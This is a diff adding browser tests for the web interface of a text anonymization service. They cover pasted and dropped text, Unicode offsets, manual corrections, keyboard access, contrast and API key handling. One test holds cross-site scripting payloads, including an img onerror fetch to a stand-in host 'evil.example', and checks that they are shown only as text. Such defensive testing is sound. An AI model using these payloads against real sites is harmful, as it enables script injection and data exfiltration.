@@ -1,0 +1,605 @@
+"""The page in a headless Chromium: what a person sees and does. Each test also checks that nothing left the server's origin, that
+the content security policy refused nothing, and that no error came up."""
+
+import json
+import random
+import re
+
+import pytest
+
+pytest.importorskip("fastapi", reason="the extra serve is not installed")
+pytest.importorskip("uvicorn", reason="the extra serve is not installed")
+
+from browser import Tab, Watch, running_browser, running_server  # noqa: E402
+
+import spacy  # noqa: E402
+
+from spacy_anonym.serve.app import make_app  # noqa: E402
+from spacy_anonym.serve.host import Host  # noqa: E402
+from spacy_anonym.serve.hosts import Hosts  # noqa: E402
+
+TEXT = "Mail ada@example.org or bo@example.org, ring 212-555-0147.\nThe zebra is at ada@example.org."
+
+
+def small_pipeline(lang, packs):
+    nlp = spacy.blank(lang)
+    nlp.add_pipe("regex_ruler", config={"packs": packs})
+    nlp.add_pipe("span_consolidator")
+    nlp.add_pipe("anonymizer")
+    return nlp
+
+
+@pytest.fixture(scope="module")
+def hosts():
+    hosts = Hosts([Host("en", small_pipeline("en", ["common"])), Host("he", small_pipeline("he", ["common", "il"]))])
+    yield hosts
+    hosts.close()
+
+
+@pytest.fixture(scope="module")
+def origin(hosts):
+    with running_server(make_app(hosts=hosts)) as origin:
+        yield origin
+
+
+@pytest.fixture(scope="module")
+def browser():
+    with running_browser() as browser:
+        yield browser
+
+
+@pytest.fixture
+def new_tab(browser, origin):
+    """Makes tabs; looks at all that they did when the test is over."""
+    contexts, watches = [], []
+
+    def make(**options):
+        options.setdefault("viewport", {"width": 1280, "height": 800})
+        context = browser.new_context(permissions=["clipboard-read", "clipboard-write"], reduced_motion="reduce", **options)
+        context.set_default_timeout(8_000)
+        contexts.append(context)
+        page = context.new_page()
+        watches.append(Watch(page, origin))
+        return Tab(page, watches[-1], origin)
+
+    yield make
+    for context in contexts:
+        context.close()
+    for watch in watches:
+        watch.check()
+
+
+@pytest.fixture
+def tab(new_tab):
+    return new_tab().open()
+
+
+def test_a_pasted_text_shows_its_findings_beside_the_new_text(tab):
+    page = tab.page
+    page.evaluate("(text) => navigator.clipboard.writeText(text)", TEXT)
+    page.click("#original")
+    page.keyboard.press("Control+V")
+    page.keyboard.press("Control+Enter")
+    tab.done()
+    assert tab.found() == [
+        ["ada@example.org", "EMAIL_ADDRESS"],
+        ["bo@example.org", "EMAIL_ADDRESS"],
+        ["212-555-0147", "PHONE_NUMBER"],
+        ["ada@example.org", "EMAIL_ADDRESS"],
+    ]
+    assert tab.new_text() == "Mail <EMAIL_ADDRESS> or <EMAIL_ADDRESS>, ring <PHONE_NUMBER>.\nThe zebra is at <EMAIL_ADDRESS>."
+    assert page.locator("#labels tr").all_inner_texts()[0].split()[:3] == ["All", "labels", "4"]
+    counts = page.evaluate("[...document.querySelectorAll('#labels tr:not(.all)')].map((row) => [row.querySelector('.name').textContent, row.querySelector('.count').textContent])")
+    assert counts == [["EMAIL_ADDRESS", "3"], ["PHONE_NUMBER", "1"]]
+    page.click("#copy")
+    page.wait_for_function("document.querySelector('#status').textContent.includes('copied')")
+    assert page.evaluate("navigator.clipboard.readText()") == tab.new_text()
+
+
+HARD = "\U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001d4d0da e\u0301 שָׁלוֹם \U0001f600ring 212-555-0147\U0001f600, \U0001f1ee\U0001f1f1 bo@example.org \U0001f600\r\nn\u0303 \U00020000 ada@example.org"
+
+
+def test_findings_stand_exactly_where_the_service_says_in_any_script(tab):
+    tab.run(HARD)
+    assert [value for value, _ in tab.found()] == ["212-555-0147", "bo@example.org", "ada@example.org"]
+    assert tab.new_text().count("<") == 3
+    # By hand, behind characters of two units: the service gets code points.
+    tab.select("שָׁלוֹם")
+    tab.page.select_option("#fix select", "PERSON")
+    tab.page.click("#fix [name=set]")
+    tab.done()
+    body = tab.watch.sent("/v1/anonymize")[-1]
+    assert body["detect"] is False
+    values = [(body["text"][span["start"] : span["end"]], span["label"]) for span in body["spans"]]
+    assert values == [("שָׁלוֹם", "PERSON"), ("212-555-0147", "PHONE_NUMBER"), ("bo@example.org", "EMAIL_ADDRESS"), ("ada@example.org", "EMAIL_ADDRESS")]
+    assert ["שָׁלוֹם", "PERSON"] in tab.found() and "<PERSON>" in tab.new_text()
+
+
+def texts_of_all_kinds(count=120):
+    rng = random.Random(7)
+    alphabet = ["a", "\u0301", "ש", "\u05b8", "\U0001f600", "\U00020000", "\u200d", "\n", "\r\n", "\r", " ", "\ud83d", "\ude00", "\x00"]
+    return ["".join(rng.choice(alphabet) for _ in range(rng.randrange(14))) for _ in range(count)]
+
+
+def test_offsets_are_converted_as_python_counts(tab):
+    texts = [text for text in texts_of_all_kinds() if not re.search("[\ud800-\udfff]", text)]
+    both = tab.evaluate(
+        """(m, texts) => texts.map((text) => { const o = new m.Offsets(text); const n = [...text].length;
+        const units = Array.from({ length: n + 1 }, (_, i) => o.toUnits(i)); return [units, units.map((at) => o.toPoints(at))]; })""",
+        texts,
+    )
+    for text, (units, points) in zip(texts, both):
+        assert units == [len(text[:i].encode("utf-16-le")) // 2 for i in range(len(text) + 1)]
+        assert points == list(range(len(text) + 1))
+
+
+def test_lines_and_pieces_hold_the_whole_text_and_each_span(tab):
+    rng = random.Random(3)
+    cases = []
+    for text in texts_of_all_kinds():
+        length = len(text.encode("utf-16-le", "surrogatepass")) // 2
+        cuts = sorted(rng.sample(range(length + 1), min(length + 1, 4)))
+        cases.append([[ord(unit) for unit in _units(text)], [{"start": a, "end": b} for a, b in zip(cuts[::2], cuts[1::2])]])
+    done = tab.evaluate(
+        """(m, cases) => cases.map(([units, spans]) => { const text = String.fromCharCode(...units);
+        return m.piecesOf(text, spans).map((line) => ({ ...line, pieces: line.pieces.map((p) => [p.start, p.end, p.span]) })); })""",
+        cases,
+    )
+    for (units, spans), lines in zip(cases, done):
+        held = [list(range(start, end)) for line in lines for start, end, _ in line["pieces"]]
+        flat = [at for part in held for at in part]
+        ends = {at for at, unit in enumerate(units) if unit == 10 or (unit == 13 and units[at + 1 : at + 2] == [10])}
+        assert flat == [at for at in range(len(units)) if at not in ends]
+        for number, span in enumerate(spans):
+            marked = [at for line in lines for start, end, which in line["pieces"] if which == number for at in range(start, end)]
+            assert marked == [at for at in range(span["start"], span["end"]) if at not in ends]
+
+
+def _units(text):
+    data = text.encode("utf-16-le", "surrogatepass")
+    return [chr(int.from_bytes(data[at : at + 2], "little")) for at in range(0, len(data), 2)]
+
+
+def test_corrections_move_with_the_text_and_never_overlap(tab):
+    changes = [{"kind": "add", "start": 0, "end": 3, "label": "A"}, {"kind": "remove", "start": 10, "end": 12, "label": "B"}]
+    moved = tab.evaluate("(m, c) => m.rebased(c, 'abc def ghi jk', 'abc def XX ghi jk')", changes)
+    assert [(each["start"], each["end"]) for each in moved] == [(0, 3), (13, 15)]
+    gone = tab.evaluate("(m, c) => m.rebased(c, 'abc def ghi jk', 'aXc def ghi jk')", changes)
+    assert [(each["start"], each["end"]) for each in gone] == [(10, 12)]
+    found = [{"start": 2, "end": 5, "label": "B"}, {"start": 8, "end": 9, "label": "B"}]
+    left = tab.evaluate("(m, f, c) => m.corrected(f, c)", found, changes[:1])
+    assert [(each["start"], each["end"], each["label"]) for each in left] == [(0, 3, "A"), (8, 9, "B")]
+    others = tab.evaluate("(m) => m.othersLike('Al Albert (Al) Al\\u0301 al', { start: 0, end: 2 })")
+    assert others == [{"start": 11, "end": 13}]
+    assert tab.evaluate("(m) => [0, 1, 2, 3, 4].map((at) => m.fromShown('a\\r\\nb\\r\\n', at))") == [0, 1, 3, 4, 6]
+    # Half of a character, and white space at the ends.
+    assert tab.evaluate("(m) => m.trimmed(' \\u{1f600}x ', 0, 2)") == {"start": 1, "end": 3}
+    assert tab.evaluate("(m) => m.trimmed('a  b', 1, 3)") is None
+
+
+def test_details_and_partners_come_on_hover_and_on_focus(tab):
+    page = tab.page
+    tab.run(TEXT)
+    for side, other in (("#before", "#after"), ("#after", "#before")):
+        page.hover(f"{side} mark >> nth=2")
+        told = page.inner_text("#detail")
+        assert "PHONE_NUMBER" in told and "Telephone or fax number" in told and "regex.phone_grouped" in told and re.search(r"0\.\d\d|1\.00", told)
+        assert page.locator(f"{other} mark.hot").count() == 1
+        assert page.locator(f"{other} mark").nth(2).evaluate("(mark) => mark.classList.contains('hot')")
+        page.mouse.move(1, 1)
+        page.wait_for_selector("#detail", state="hidden")
+        assert page.locator("mark.hot").count() == 0
+    page.locator("#before mark").first.focus()
+    page.keyboard.press("ArrowRight")
+    assert "EMAIL_ADDRESS" in page.inner_text("#detail")
+    assert page.evaluate("document.activeElement.getAttribute('aria-describedby')") == "detail"
+    assert page.locator("#after mark").nth(1).evaluate("(mark) => mark.classList.contains('hot')")
+    page.keyboard.press("Escape")
+    assert page.is_hidden("#detail")
+
+
+def operator_select(label):
+    return f"#labels select[aria-label='Operator of {label}']"
+
+
+def test_operators_and_their_parameters_write_the_new_text(tab):
+    page = tab.page
+    tab.run(TEXT)
+    page.select_option(operator_select("All labels"), "redact")
+    tab.done()
+    assert tab.new_text() == "Mail  or , ring .\nThe zebra is at ."
+    page.select_option(operator_select("PHONE_NUMBER"), "mask")
+    tab.done()
+    assert tab.new_text() == "Mail  or , ring ************.\nThe zebra is at ."
+    page.click("#labels button[aria-label='Parameters of PHONE_NUMBER']")
+    fields = page.locator("#labels tr.params label.param")
+    fields.filter(has_text="char").locator("input").fill("#")
+    fields.filter(has_text="count").locator("input").fill("4")
+    page.keyboard.press("Tab")
+    tab.done()
+    assert tab.new_text() == "Mail  or , ring 212-555-####.\nThe zebra is at ."
+    assert tab.watch.sent("/v1/anonymize")[-1]["operators"]["PHONE_NUMBER"] == {"type": "mask", "char": "#", "count": 4}
+    # What was taken out can still be seen and pointed at.
+    page.hover("#after mark.empty >> nth=0")
+    assert page.locator("#before mark").first.evaluate("(mark) => mark.classList.contains('hot')")
+    page.click("#undo")
+    tab.done()
+    assert "########" not in tab.new_text() and "*" not in tab.new_text().replace("212-555-", "")
+
+
+def test_a_wrong_parameter_is_told_with_its_code(tab):
+    page = tab.page
+    tab.watch.expected = ["400", "422"]
+    tab.run(TEXT)
+    page.select_option(operator_select("PHONE_NUMBER"), "mask")
+    tab.done()
+    page.click("#labels button[aria-label='Parameters of PHONE_NUMBER']")
+    page.locator("#labels tr.params label.param").filter(has_text="char").locator("input").fill("##")
+    page.keyboard.press("Tab")
+    tab.done()
+    assert re.fullmatch(r"SA\d{3}", page.inner_text("#problem-code"))
+    assert page.get_attribute("#problem", "role") == "alert" and page.is_visible("#problem")
+    assert page.inner_text("#problem-text") and "212" not in page.inner_text("#problem-text")
+    page.click("#undo")
+    tab.done()
+    assert page.is_hidden("#problem")
+
+
+def test_spans_are_added_relabelled_and_removed_by_hand_and_undone(tab):
+    page = tab.page
+    tab.run(TEXT)
+    tab.select("zebra ")
+    assert page.inner_text("#fix .quote") == "zebra"
+    page.select_option("#fix select", "PERSON")
+    page.click("#fix [name=set]")
+    tab.done()
+    assert ["zebra", "PERSON"] in tab.found() and "The <PERSON> is" in tab.new_text()
+    page.hover("#after mark:has-text('PERSON')")
+    assert "by hand" in page.inner_text("#detail")
+    # Another label for one mail address, and for its twin.
+    page.click("#before mark >> nth=0")
+    page.check("#fix [name=all]")
+    page.select_option("#fix select", "USERNAME")
+    page.click("#fix [name=set]")
+    tab.done()
+    assert [label for value, label in tab.found() if value == "ada@example.org"] == ["USERNAME", "USERNAME"]
+    assert tab.new_text() == "Mail <USERNAME> or <EMAIL_ADDRESS>, ring <PHONE_NUMBER>.\nThe <PERSON> is at <USERNAME>."
+    page.click("#after mark >> nth=2")
+    page.click("#fix [name=remove]")
+    tab.done()
+    assert "212-555-0147" in tab.new_text() and len(tab.found()) == 4
+    for _ in range(3):
+        page.click("#undo")
+        tab.done()
+    assert tab.new_text() == "Mail <EMAIL_ADDRESS> or <EMAIL_ADDRESS>, ring <PHONE_NUMBER>.\nThe zebra is at <EMAIL_ADDRESS>."
+    assert page.is_disabled("#undo")
+    page.click("#redo")
+    tab.done()
+    assert "The <PERSON> is" in tab.new_text()
+
+
+def test_corrections_outlive_an_edit_and_another_threshold(tab):
+    page = tab.page
+    tab.run(TEXT)
+    tab.select("zebra")
+    page.select_option("#fix select", "PERSON")
+    page.click("#fix [name=set]")
+    tab.done()
+    page.click("#edit")
+    page.fill("#original", "Hello! " + TEXT)
+    page.click("#run")
+    tab.done()
+    assert ["zebra", "PERSON"] in tab.found() and tab.new_text().startswith("Hello! Mail <EMAIL")
+    page.locator("#threshold").focus()
+    page.keyboard.press("End")
+    tab.done()
+    assert tab.watch.sent("/v1/anonymize")[-2]["threshold"] == 1
+    assert [label for _, label in tab.found()] == ["PERSON"]
+
+
+def test_a_label_that_is_switched_off_stays_in_the_text(tab):
+    page = tab.page
+    tab.run(TEXT)
+    page.uncheck("#labels input[aria-label='Replace EMAIL_ADDRESS']")
+    tab.done()
+    assert tab.new_text() == TEXT.replace("212-555-0147", "<PHONE_NUMBER>")
+    assert page.locator("#before mark.off").count() == 3
+    page.hover("#before mark.off >> nth=0")
+    assert "stays in the text" in page.inner_text("#detail")
+    page.check("#labels input[aria-label='Replace EMAIL_ADDRESS']")
+    tab.done()
+    assert "ada@" not in tab.new_text()
+
+
+def test_the_downloads_hold_the_new_text_and_the_items(tab):
+    text = "\U0001f600 ring 212-555-0147, mail ada@example.org"
+    tab.run(text)
+    tab.page.uncheck("#labels input[aria-label='Replace EMAIL_ADDRESS']")
+    tab.done()
+    saved = tab.download("#save-text")
+    assert saved.suggested_filename == "anonymized.txt"
+    with open(saved.path(), encoding="utf8", newline="") as file:
+        new = file.read()
+    assert new == "\U0001f600 ring <PHONE_NUMBER>, mail ada@example.org"
+    saved = tab.download("#save-items")
+    assert saved.suggested_filename == "anonymized_items.json"
+    with open(saved.path(), encoding="utf8") as file:
+        raw = file.read()
+    data = json.loads(raw)
+    assert (data["pipeline"], data["language"]) == ("en", "en")
+    [item] = data["items"]
+    assert new[item["start"] : item["end"]] == "<PHONE_NUMBER>"
+    assert text[item["source_start"] : item["source_end"]] == "212-555-0147"
+    # Found by the pipeline: its rule and score, though it was sent back as a given span.
+    assert item["rule"] == "regex.phone_grouped" and 0 < item["score"] < 1
+    assert "212" not in raw and "ada" not in raw
+
+
+DROP = """([name, content, type]) => { const data = new DataTransfer(); data.items.add(new File([content], name, { type }));
+for (const kind of ['dragenter', 'dragover', 'drop']) document.body.dispatchEvent(new DragEvent(kind, { dataTransfer: data, bubbles: true, cancelable: true })); }"""
+
+
+def test_a_dropped_text_is_shown_with_its_line_ends(tab):
+    page = tab.page
+    page.evaluate(DROP, ["note.txt", "Ring 212-555-0147\r\ntwo ada@example.org\r\n", "text/plain"])
+    page.wait_for_selector("#before mark")
+    tab.done()
+    assert page.input_value("#original") == "Ring 212-555-0147\ntwo ada@example.org\n"
+    with open(tab.download("#save-text").path(), encoding="utf8", newline="") as file:
+        assert file.read() == "Ring <PHONE_NUMBER>\r\ntwo <EMAIL_ADDRESS>\r\n"
+    # A span behind line ends, selected in the field that has others.
+    page.click("#by-keyboard")
+    page.evaluate("document.querySelector('#select').setSelectionRange(18, 21)")
+    page.keyboard.press("x")
+    page.keyboard.press("Enter")
+    assert page.inner_text("#fix .quote") == "two"
+    page.keyboard.press("Escape")
+    page.keyboard.press("Escape")
+    assert page.is_visible("#before")
+
+
+def test_a_file_of_another_format_comes_back_as_a_download(tab):
+    page = tab.page
+    page.select_option("#pipeline", "en")
+    page.evaluate(DROP, ["people.csv", "name,mail\nx,ada@example.org\n", "text/csv"])
+    page.wait_for_selector("#file-list button")
+    assert "1" in page.inner_text("#file-list")
+    saved = tab.download("#file-list button")
+    assert saved.suggested_filename.endswith(".csv")
+    with open(saved.path(), encoding="utf8") as file:
+        assert file.read() == "name,mail\nx,<EMAIL_ADDRESS>\n"
+    tab.watch.expected = ["40", "41", "42"]
+    page.evaluate(DROP, ["broken.docx", "this is no archive", ""])
+    page.wait_for_selector("#file-list .bad")
+    assert re.match(r"SA\d{3} ", page.inner_text("#file-list .bad"))
+
+
+def test_all_can_be_done_with_the_keyboard(tab):
+    page = tab.page
+    press = page.keyboard.press
+    page.select_option("#pipeline", "en")
+    page.focus("body")
+    seen = []
+    for _ in range(20):
+        press("Tab")
+        seen.append(page.evaluate("document.activeElement.id || document.activeElement.textContent"))
+        outline = page.evaluate("getComputedStyle(document.activeElement).outlineStyle")
+        assert outline != "none" or seen[-1] == "Skip to the text"
+        if seen[-1] == "original":
+            break
+    assert seen == ["Skip to the text", "pipeline", "threshold", "names", "theme", "example", "open", "run", "original"]
+    page.keyboard.insert_text(TEXT)
+    press("Control+Enter")
+    tab.done()
+    # The focus is on the first finding; the arrows go on, and Tab leaves for the other text.
+    focused = "[document.activeElement.textContent, document.activeElement.closest('.text')?.id]"
+    assert page.evaluate(focused) == ["ada@example.org", "before"]
+    press("End")
+    press("ArrowLeft")
+    assert page.evaluate(focused) == ["212-555-0147", "before"]
+    press("Delete")
+    tab.done()
+    assert "212-555-0147" in tab.new_text()
+    assert page.evaluate(focused) == ["ada@example.org", "before"]
+    # Another label.
+    press("Enter")
+    assert page.evaluate("document.activeElement.name") == "label"
+    page.keyboard.type("USERN")
+    press("Tab")
+    press("Tab")
+    press("Enter")
+    tab.done()
+    assert tab.found()[-1] == ["ada@example.org", "USERNAME"]
+    assert page.evaluate("document.querySelector('#before').contains(document.activeElement)")
+    # A new span: from the pane back to the button, a selection, a label.
+    press("Enter")
+    press("Escape")
+    assert page.is_hidden("#fix")
+    for _ in range(6):
+        press("Shift+Tab")
+        if page.evaluate("document.activeElement.id") == "by-keyboard":
+            break
+    press("Enter")
+    press("Control+End")
+    for _ in range(len("at ada@example.org.")):
+        press("ArrowLeft")
+    press("ArrowLeft")
+    for _ in range(len("zebra is")):
+        press("Shift+ArrowLeft")
+    press("Delete")
+    press("Enter")
+    assert page.inner_text("#fix .quote") == "zebra is"
+    page.keyboard.type("PERSON")
+    press("Tab")
+    press("Enter")
+    tab.done()
+    assert ["zebra is", "PERSON"] in tab.found()
+    press("Control+z")
+    tab.done()
+    assert ["zebra is", "PERSON"] not in tab.found()
+    press("Control+Shift+z")
+    tab.done()
+    assert ["zebra is", "PERSON"] in tab.found()
+    # What happened is told to screen readers.
+    assert page.get_attribute("#status", "aria-live") == "polite" and "4 findings" in page.inner_text("#status")
+
+
+def test_every_control_has_a_name(tab):
+    tab.run(TEXT)
+    page = tab.page
+    page.click("#before mark >> nth=0")
+    unnamed = page.evaluate(
+        """[...document.querySelectorAll('button, input, select, textarea, [role=dialog], [role=group], dialog')]
+        .filter((each) => !(each.ariaLabel || each.textContent.trim() || each.getAttribute('aria-labelledby') || each.labels?.length)).map((each) => each.outerHTML)"""
+    )
+    assert unnamed == []
+
+
+def test_right_to_left_text_is_laid_out_so_by_paragraph(tab):
+    page = tab.page
+    tab.run("דנה לוי, טלפון 052-1234567, היום\nMail ada@example.org\n\nשלום וברכה", "")
+    assert "Pipeline: he" in page.inner_text("#status")
+    for pane in ("#before", "#after"):
+        assert page.locator(f"{pane} .line").evaluate_all("(lines) => lines.map((line) => getComputedStyle(line).direction)") == ["rtl", "ltr", "ltr", "rtl"]
+        left, right = page.locator(f"{pane} .line").first.evaluate("(line) => { const box = line.getBoundingClientRect(); const r = document.createRange(); r.selectNodeContents(line); const text = r.getBoundingClientRect(); return [text.left - box.left, box.right - text.right]; }")
+        assert left > 10 and right < 2
+    assert ["052-1234567", "PHONE_NUMBER"] in tab.found()
+    # A finding is marked where it stands, though its label is written beside it.
+    page.click("#edit")
+    assert page.evaluate("getComputedStyle(document.querySelector('#original')).direction") == "rtl"
+
+
+HOSTILE = (
+    "<img src=x onerror=fetch('https://evil.example/'+document.title)> <script>window.hit=1</script> "
+    "<svg onload=window.hit=1> javascript:window.hit=1 \"><a href='https://evil.example'>x</a> ${window.hit=1} {{7*7}} ada@example.org\x00\u202e"
+)
+
+
+def test_hostile_text_is_only_text(tab):
+    page = tab.page
+    tab.run(HOSTILE)
+    assert page.inner_text("#before .line >> nth=0").startswith("<img src=x onerror=")
+    page.click("#before mark >> nth=0")
+    page.select_option("#fix select", "PERSON")
+    page.click("#fix [name=set]")
+    tab.done()
+    # The operator's value is hostile too.
+    page.select_option(operator_select("PERSON"), "replace")
+    tab.done()
+    page.click("#labels button[aria-label='Parameters of PERSON']")
+    page.locator("#labels tr.params label.param").filter(has_text="value").locator("input").fill("<img src=https://evil.example/y onerror=window.hit=1>")
+    page.keyboard.press("Tab")
+    tab.done()
+    assert "evil.example/y" in tab.new_text()
+    page.hover("#after mark >> nth=-1")
+    assert page.evaluate("window.hit") is None
+    assert page.locator("main img, main a, main script, main svg, #detail img, #fix img").count() == 0
+    # The watch checks that nothing was sent to evil.example.
+    assert page.evaluate("[localStorage.length, sessionStorage.length, document.cookie]") == [0, 0, ""]
+    assert all(each.url == f"{tab.origin}/" or "?" not in each.url for each in tab.watch.requests)
+
+
+def test_a_key_is_asked_for_when_the_server_wants_one_and_is_kept_in_memory_only(new_tab):
+    tab = new_tab()
+    page = tab.page
+    tab.watch.expected = ["401"]
+
+    def guard(route):
+        if route.request.headers.get("x-api-key") == "right key":
+            return route.continue_()
+        return route.fulfill(status=401, json={"error": "[SA505] a key is needed", "code": "SA505"})
+
+    page.route("**/v1/**", guard)
+    page.goto(f"{tab.origin}/")
+    page.wait_for_selector("#key[open]")
+    page.fill("#key-value", "wrong key")
+    page.keyboard.press("Enter")
+    page.wait_for_selector("#key[open]")
+    page.wait_for_function("document.querySelector('#key-value').value === ''")
+    page.fill("#key-value", "right key")
+    page.keyboard.press("Enter")
+    page.wait_for_selector("#pipeline option:nth-child(2)", state="attached")
+    tab.run(TEXT)
+    assert len(tab.found()) == 4
+    assert page.is_hidden("#key")
+    assert page.evaluate("JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie, location.href])") == json.dumps([{}, {}, "", f"{tab.origin}/"], separators=(",", ":"))
+    page.reload()
+    page.wait_for_selector("#key[open]")
+    page.keyboard.press("Escape")
+    page.wait_for_selector("#problem:not([hidden])")
+    assert page.inner_text("#problem-code") == "SA505" and page.inner_text("#problem-text") == "a key is needed"
+
+
+CONTRAST = """() => {
+  const canvas = new OffscreenCanvas(1, 1).getContext('2d', { willReadFrequently: true });
+  const pixels = (...colors) => { canvas.clearRect(0, 0, 1, 1); for (const c of colors) { canvas.fillStyle = c; canvas.fillRect(0, 0, 1, 1); } return [...canvas.getImageData(0, 0, 1, 1).data]; };
+  const light = (rgb) => { const [r, g, b] = rgb.map((v) => (v /= 255) <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4); return 0.2126 * r + 0.7152 * g + 0.0722 * b; };
+  const grounds = (e) => { const all = []; for (; e; e = e.parentElement) all.unshift(getComputedStyle(e).backgroundColor); return all; };
+  const poor = [];
+  for (const e of document.querySelectorAll('body *')) {
+    if (e.disabled || !e.checkVisibility() || ![...e.childNodes].some((n) => n.nodeType === 3 && n.data.trim())) continue;
+    const base = grounds(e); const back = light(pixels(...base).slice(0, 3));
+    for (const pseudo of ['', '::after']) {
+      const style = getComputedStyle(e, pseudo || null);
+      canvas.globalAlpha = 1; pixels(...base); canvas.globalAlpha = Number(style.opacity); canvas.fillStyle = style.color; canvas.fillRect(0, 0, 1, 1); canvas.globalAlpha = 1;
+      const front = light([...canvas.getImageData(0, 0, 1, 1).data].slice(0, 3));
+      const ratio = (Math.max(front, back) + 0.05) / (Math.min(front, back) + 0.05);
+      if (ratio < 4.5) poor.push([e.tagName, e.id || e.className, e.textContent.slice(0, 20), pseudo, ratio]);
+    }
+  }
+  return poor; }"""
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_texts_have_contrast_in_both_themes(new_tab, scheme):
+    tab = new_tab(color_scheme=scheme).open()
+    page = tab.page
+    tab.run(TEXT)
+    # A mark of each colour there is.
+    page.evaluate(
+        """async () => { const all = Object.entries((await (await fetch('v1/pipelines')).json()).labels);
+        const mark = document.querySelector('#before mark'); for (const [name, { color }] of all) { const other = mark.cloneNode(true);
+        other.dataset.label = name; other.style.setProperty('--c', color); mark.parentElement.append(other); } }"""
+    )
+    page.hover("#before mark >> nth=0")
+    assert page.evaluate(CONTRAST) == []
+    page.click("#before mark >> nth=0")
+    assert page.evaluate(CONTRAST) == []
+    ground = "getComputedStyle(document.body).backgroundColor"
+    before = page.evaluate(ground)
+    page.keyboard.press("Escape")
+    for name in ("light", "dark", "auto"):
+        page.click("#theme")
+        assert name in page.inner_text("#theme")
+        assert (page.evaluate(ground) == before) == (name in (scheme, "auto"))
+
+
+def test_a_narrow_screen_does_not_scroll_sideways(new_tab):
+    tab = new_tab(viewport={"width": 340, "height": 700}, has_touch=True).open()
+    tab.run(TEXT + "\n" + "x" * 500)
+    page = tab.page
+    assert page.evaluate("document.documentElement.scrollWidth") <= 340
+    page.locator("#before mark").first.tap()
+    box = page.locator("#fix").bounding_box()
+    assert box["x"] >= 0 and box["x"] + box["width"] <= 340
+
+
+def test_a_long_text_is_shown_whole_and_can_be_corrected(tab):
+    page = tab.page
+    line = "Line of a long text with ada@example.org to mail and a phone, 212-555-0147, and other things, \U0001f600.\n"
+    text = line * (200_000 // len(line))
+    page.select_option("#pipeline", "en")
+    page.evaluate("(text) => { document.querySelector('#original').value = text; }", text)
+    page.click("#run")
+    tab.done()
+    count = text.count("\n") * 2
+    assert page.locator("#before mark").count() == page.locator("#after mark").count() == count
+    assert tab.new_text() == text.replace("ada@example.org", "<EMAIL_ADDRESS>").replace("212-555-0147", "<PHONE_NUMBER>")
+    page.locator("#before mark").first.focus()
+    page.keyboard.press("End")
+    assert page.locator("#before mark >> nth=-1").evaluate("(mark) => { const box = mark.getBoundingClientRect(); return box.top > 0 && box.bottom < innerHeight && mark === document.activeElement; }")
+    assert page.locator("#after mark >> nth=-1").evaluate("(mark) => { const box = mark.getBoundingClientRect(); return box.top > 0 && box.bottom < innerHeight; }")
+    page.keyboard.press("Delete")
+    tab.done()
+    assert page.locator("#before mark").count() == count - 1
+    assert tab.new_text().rstrip().splitlines()[-1] == line.rstrip().replace("ada@example.org", "<EMAIL_ADDRESS>")
